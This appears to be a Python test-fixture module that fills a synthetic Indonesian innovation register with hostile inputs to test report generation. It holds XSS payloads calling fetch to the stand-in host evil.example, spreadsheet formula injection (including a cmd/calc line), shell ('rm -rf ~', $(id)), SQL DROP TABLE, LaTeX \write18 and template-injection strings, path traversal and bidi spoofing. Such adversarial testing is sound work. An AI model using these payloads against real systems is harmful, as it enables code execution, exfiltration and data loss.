"""Texts that would be obeyed, fetched, reordered or lost somewhere, and a register all of whose free cells hold them.

Numbers are those of group c of the catalogue. Whatever runs says so by a dialog or `window.obeyed`; whatever is fetched
comes from `AWAY`.
"""

import csv
import shutil
from datetime import date
from itertools import cycle, islice
from pathlib import Path

import openpyxl
import yaml
from conftest import INNOVATION_HEADS, UNIT_HEADS

from analysis.home import HOME, RAW

AWAY = "evil.example"  # the host of every address in these texts
_OBEY = f"window.obeyed=1;alert(1);fetch('https://{AWAY}/f')"

TEXTS = {
    # C01 C02: a page would run it
    "c01 script": f"<script>{_OBEY}</script>",
    "c01 closed script": f"</script></style></title></textarea><script>{_OBEY}</script>",
    "c01 comment": f"<!--><script>{_OBEY}</script>-->",
    "c02 img": f"<img src=https://{AWAY}/i.png onerror={_OBEY}>",
    "c02 svg": f"</text></svg><svg onload={_OBEY}><image href='https://{AWAY}/s.png'/>",
    "c02 attribute": f"\" autofocus onfocus={_OBEY} x=' onmouseover='{_OBEY}",
    "c02 frame": f"<iframe src='https://{AWAY}/'></iframe><form action=//{AWAY}/><input autofocus onfocus={_OBEY}>",
    "c02 style": f"</style><style>@import 'https://{AWAY}/c.css';*{{display:none}}</style>",
    "c02 css": f"x}} body {{ background: url(https://{AWAY}/b.png); display: none }} /* expression(alert(1)) */",
    "c02 cdata": f"<![CDATA[<script>{_OBEY}</script>]]> ]]>",
    "c02 base": f"<base href=https://{AWAY}/><meta http-equiv=refresh content='0;url=https://{AWAY}/'>",
    "c02 entities": f"&lt;script&gt;{_OBEY}&lt;/script&gt; &#60;b&#62; &amp;amp; &nbsp; &copy;",
    "c02 table": "</th></td></tr></tbody></table></figure></main><h1>Judul lain</h1>",
    # C03: a link that is none
    "c03 javascript": f"javascript:{_OBEY}//",
    "c03 data": f"data:text/html,<script>{_OBEY}</script>",
    # C04: Markdown
    "c04 markdown": f"a | b | c # ## **tebal** `kode` [x](javascript:alert(1)) ![](https://{AWAY}/m.png) ***",
    "c04 table": "| a | b |\n|---|---|\n| 1 | 2 |\n\n# Judul\n\n---",
    # C05: formulas
    "c05 equals": f'=HYPERLINK("https://{AWAY}/x","klik")',
    "c05 command": "=cmd|' /C calc'!A0",
    "c05 plus": "+1+1",
    "c05 minus": "-1+1",
    "c05 at": "@SUM(1+1)",
    "c05 wide": "＝1+1",
    "c05 escape": "_x003D_1+1 _x000D_",
    # C06: mathematics
    "c06 dollars": "Rp $5 menjadi $3 $_$ $\\frac{1}{0}$ \\alpha_{x}^{y}",
    # C07: long words
    "c07 word": "Pertanggungjawaban" * 8,
    "c07 address": f"https://{AWAY}/" + "jalan-panjang/" * 14 + "?" + "x=1&" * 20,
    # C08: order of writing
    "c08 override": "Arsip \u202e321 fdp.exe\u202c Cepat",
    "c08 isolate": "Satu \u2067dua 1 2 3\u2069 \u2066tiga\u2069 \u061cempat",
    "c08 hidden": "Si\u200bga\u200dp\ufeff De\u00adsa\u2060",
    # C09: letters without a glyph
    "c09 emoji": "Posyandu 👶🏽👨‍👩‍👧‍👦🇮🇩1️⃣❤️ Ceria",
    "c09 javanese": "Aksara ꦲꦏ꧀ꦱꦫꦗꦮ dan ᬅᬓ᭄ᬱᬭᬩᬮᬶ",
    "c09 arabic": "Baitul Mal بيت المال 12 34",
    "c09 hebrew": "שלום 12 34 עולם",
    "c09 chinese": "漢字かな交じり文 12 34",
    "c09 zalgo": "Ra\u0334\u0321\u0354pi\u0336 kuda\u0301",
    # C10: control characters
    "c10 control": "Satu\x0bdua\x07tiga\x1b[31mempat\x7flima",
    # C12: names of files and sheets
    "c12 climb": "../../../../rahasia/x",
    "c12 windows": "CON: aux\\nul/lpt1.*?<>|",
    "c12 sheet": "'[Lembar]:*?/\\' " + "dengan nama yang sangat panjang sekali",
    "c12 percent": "%00 %2e%2e%2f #jangkar ?tanya=1&b=2",
    # C13: templates
    "c13 jinja": "{{ 7*7 }} {% raw %} {# x #} ${7*7} #{7*7} <%= 7*7 %> {{ ''.__class__ }}",
    "c13 format": "{0} {name} {region.__class__} %s %(x)s {} {{}}",
    "c13 typst": '#eval("1+1") #read("report.typ") #import "x" *tebal* _miring_ = Judul $x$ @label <label> \\ `r`',
    "c13 latex": "\\input{rahasia.tex} \\write18{ls} \\end{document} ^^M ~ \\\\",
    "c13 shell": "x'; rm -rf ~ #`id` $(id) \"; echo \\",
    "c13 sql": "Robert'); DROP TABLE inovasi;--",
    "c13 terminal": "[red]awas[/red] [link=https://x]y[/link] \\[b]",
}

CODES = (
    *("<b>K1</b>", "../../K2", "CON", "K4 ' \" & %00 #x", "=1+K5", "K6; rm -rf ~", "ꦏ꧇", "{{ 7*8 }}"),
    *("K9" * 60, "[K10](x)", "$K_11$", "K-12"),
)
NAMES = tuple(
    f"Dinas {n} {TEXTS[name]}".replace("\n", " ") if "c05" not in name else TEXTS[name]
    for n, name in enumerate(
        (
            *("c01 script", "c02 img", "c04 markdown", "c05 equals", "c06 dollars", "c07 word", "c08 override"),
            *("c09 emoji", "c12 climb", "c13 jinja", "c13 typst", "c02 attribute"),
        ),
        start=1,
    )
)
REGISTER = "jahat & 50% #1"  # a folder may be called so
DAY = date(2020, 11, 26)
FORMS = (
    "Inovasi pelayanan publik",
    "Inovasi tata kelola pemerintahan daerah",
    "Inovasi daerah lainnya sesuai dengan urusan pemerintahan yang menjadi kewenangan daerah",
)
BAD_URL = ("javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,x", "file:///rahasia/x", "//evil.example")
REGION = f"Kabupaten <b>Uji</b> & \u202eRTL\u202c {TEXTS['c13 jinja']}"


def _texts(count: int, start: int = 0) -> list[str]:
    """So many of the texts, beginning with the one at `start`, again from the first when they are used up."""
    return list(islice(cycle(TEXTS.values()), start, start + count))


def units() -> list[dict]:
    """Twelve units; one has no innovation, and neither has an alias that is another's name."""
    rows = []
    for n, (code, name) in enumerate(zip(CODES, NAMES, strict=True)):
        alias = _texts(1, n + 14)[0].replace(";", ",").replace("\n", " ")
        kind = "kecamatan" if n >= 9 else "opd"
        tile = (
            {"ubin_kolom": n - 8, "ubin_baris": n % 2 + 1}
            if kind == "kecamatan"
            else {"ubin_kolom": "", "ubin_baris": ""}
        )
        affair = "Kesehatan" if n == 0 else f"Urusan {TEXTS['c02 attribute']} | {TEXTS['c02 svg']}".replace("\n", " ")
        values = (code, name, kind, f"A{n} {alias}", "", affair)
        rows.append(dict(zip(UNIT_HEADS, values, strict=True)) | tile)
    return rows


def innovations(count: int = 48) -> list[dict]:
    """A row a text or more: every free cell hostile, every other one right, so that the door accepts it."""
    rows = []
    for n, name in enumerate(_texts(count)):
        applied = n % 3 == 2
        measured = {"waktu_sebelum": 5 + n % 4, "waktu_sesudah": n % 6, "biaya_sebelum": 75000, "biaya_sesudah": 0}
        said = {
            "id": f"I-{n:02d}",
            "nama_inovasi": name,
            "perangkat_daerah": NAMES[n % 11],
            "jenis": ("Digital", "Non Digital")[n % 2],
            "bentuk": FORMS[n % 3],
            "tahapan": ("Inisiatif", "Uji Coba", "Penerapan")[n % 3],
            "tanggal_uji_coba": f"02/{n % 9 + 1:02d}/2020" if n % 3 else "",
            "tanggal_penerapan": "05/11/2020" if applied else "",
            **(measured if applied else {}),
            "url": f"https://{AWAY}/?q='onfocus='alert(1)'&n={n}" if n % 4 else BAD_URL[n % 5],
            "keterangan": _texts(1, n + 23)[0],
        }
        rows.append(
            dict.fromkeys(INNOVATION_HEADS, "")
            | said
            | {"rancang_bangun": f"{n} {_texts(1, n + 11)[0]}", "misi": _texts(1, n + 7)[0]}
        )
    return rows


def _rest(count: int) -> dict[str, list[dict]]:
    """The other four tables."""
    text = _texts(count + 40)
    impacts = [
        {"id": f"I-{n:02d}", "item": item, "sebelum": 10, "sesudah": 4 + n % 3}
        | {"satuan": text[n + 5].replace("\n", " "), "tahun_data": 2020, "bukti": text[n + 9]}
        for n in range(2, count, 3)
        for item in ("F4", "E1")
    ]
    answers = [
        {"id": f"I-{n:02d}", "indikator": number, "level": n % 4, "basis": "", "bukti": text[n + number - 16]}
        for n in range(2, count, 12)
        for number in range(16, 36)
    ]
    own = [{"indikator": n, "level": n % 4, "nilai": "", "bukti": text[n + 20]} for n in range(1, 16)]
    stages = [
        {"id": f"I-{n:02d}", "tahap": stage, "tanggal": f"{day}/01/2020"}
        for n in range(count)
        for day, stage in zip((10, 12, 14), ("drum-up", "diagnose", "design"), strict=True)
    ]
    return {"dampak": impacts, "indikator_inovasi": answers, "indikator_daerah": own, "tahap_lab": stages}


def tables(count: int = 48) -> dict[str, list[dict]]:
    """All six tables of the register, by the name of their sheet."""
    return {"perangkat_daerah": units(), "inovasi": innovations(count), **_rest(count)}


def description() -> dict:
    """The register.yml of it."""
    both = {"id": TEXTS["c01 script"], "en": TEXTS["c02 img"]}
    return {
        "title": {"id": f"Register {TEXTS['c01 closed script']}", "en": f"Register {TEXTS['c13 typst']}"},
        "region": REGION,
        "as_of": DAY,
        "synthetic": True,
        "complete": True,
        "source": {"id": TEXTS["c04 markdown"], "en": TEXTS["c08 override"]},
        "licence": TEXTS["c05 command"],
        "caveat": both,
        "sources": [
            {"id": TEXTS["c09 emoji"], "en": TEXTS["c06 dollars"], "url": url}
            for url in (*BAD_URL, "java\tscript:alert(1)", f"https://{AWAY}/\"onclick='alert(1)", "https://a.example/x")
        ],
        "missions": [{"code": TEXTS["c02 svg"], **both}],
        "domains": [TEXTS["c02 base"]],
    }


def write_csv(place: Path, count: int = 48) -> Path:
    """The register as a folder of csv files."""
    place.mkdir(parents=True)
    for sheet, rows in tables(count).items():
        with (place / f"{sheet}.csv").open("w", encoding="utf-8", newline="") as lines:
            writer = csv.DictWriter(lines, rows[0])
            writer.writeheader()
            writer.writerows(rows)
    _describe(place)
    return place


def write_xlsx(place: Path, count: int = 48) -> Path:
    """The same register as one workbook; what begins as a formula is a string in its cell, as a careful unit types it.

    A workbook cannot hold the control characters, so those are blanks.
    """
    place.mkdir(parents=True)
    book = openpyxl.Workbook()
    book.remove(book.active)
    for sheet, rows in tables(count).items():
        page = book.create_sheet(sheet)
        page.append(list(rows[0]))
        for y, row in enumerate(rows, start=2):
            for x, value in enumerate(row.values(), start=1):
                if value != "":
                    cell = page.cell(y, x, openpyxl.cell.cell.ILLEGAL_CHARACTERS_RE.sub(" ", str(value)))
                    cell.data_type = "s"
    book.save(place / "register.xlsx")
    _describe(place)
    return place


def _describe(place: Path) -> None:
    written = yaml.safe_dump(description(), allow_unicode=True)
    (place / "register.yml").write_text(written, encoding="utf-8")


def kit(home: Path, reports: tuple[str, ...], own: str = "") -> Path:
    """A kit that holds the hostile register alone, for these reports of ours and `own` lines of its reports.yml."""
    for folder in ("methods", "national"):
        shutil.copytree(RAW / folder, home / "data" / "raw" / folder)
    write_csv(home / "data" / "raw" / "registers" / REGISTER)
    shutil.copytree(HOME / "notebooks", home / "notebooks")
    rows = yaml.safe_load((HOME / "reports.yml").read_text(encoding="utf-8"))["reports"]
    matrix = {"registers": [REGISTER], "languages": ["id"], "reports": {name: rows[name] for name in reports}}
    (home / "reports.yml").write_text(yaml.safe_dump(matrix, sort_keys=False) + own, encoding="utf-8")
    return home
